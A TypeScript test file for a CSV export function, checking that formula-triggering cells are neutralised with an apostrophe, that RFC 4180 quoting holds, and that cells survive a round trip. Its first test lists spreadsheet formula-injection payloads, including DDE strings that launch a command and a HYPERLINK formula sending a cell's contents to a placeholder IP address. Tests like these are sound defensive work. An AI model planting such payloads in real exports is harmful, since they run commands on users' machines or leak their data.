import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { toCsv } from "./csv.ts";

describe("a text that a spreadsheet would run", () => {
  test.each([
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "＝1+1",
    "＠SUM(A1)",
    "\u200b=1+1",
    '=HYPERLINK("http://192.0.2.1?x="&A1,"click")',
    "%0A=1+1",
    "|calc",
  ])("%j is text", (hostile) => {
    const line = toCsv(["a"], [[hostile]]).slice("a\r\n".length);
    expect(line.replace(/^"/, "").startsWith("'")).toBe(true);
  });
});

test("numbers, times and ordinary words stay as they are", () => {
  expect(
    toCsv(
      ["n", "t"],
      [
        [-5, "-5"],
        ["192.0.2.1", "2026-11-24 10:00:00"],
        [null, true],
      ],
    ),
  ).toBe("n,t\r\n-5,-5\r\n192.0.2.1,2026-11-24 10:00:00\r\n,true\r\n");
});

test("commas, quotes and line breaks are quoted", () => {
  expect(toCsv(["a,b"], [['say "hi"\nnow']])).toBe('"a,b"\r\n"say ""hi""\nnow"\r\n');
});

/** What RFC 4180 says a reader does. */
function parse(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  let cell = "";
  let isQuoted = false;
  const end = () => {
    rows.at(-1)?.push(cell);
    cell = "";
  };
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? "";
    if (isQuoted && sign === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"') isQuoted = !isQuoted;
    else if (isQuoted) cell += sign;
    else if (sign === ",") end();
    else if (sign === "\r") {
      end();
      rows.push([]);
      at += 1;
    } else cell += sign;
  }
  return rows.slice(0, -1);
}

test("a reader finds every cell as it was, but for the apostrophe", () => {
  const cell = fc.string({ unit: "binary" });
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
      const read = parse(toCsv(["a", "b"], rows)).slice(1);
      const asWritten = read.map((row, at) =>
        row.map((text, column) => (text === `'${rows[at]?.[column] ?? ""}` ? text.slice(1) : text)),
      );
      expect(asWritten).toEqual(rows);
    }),
  );
});
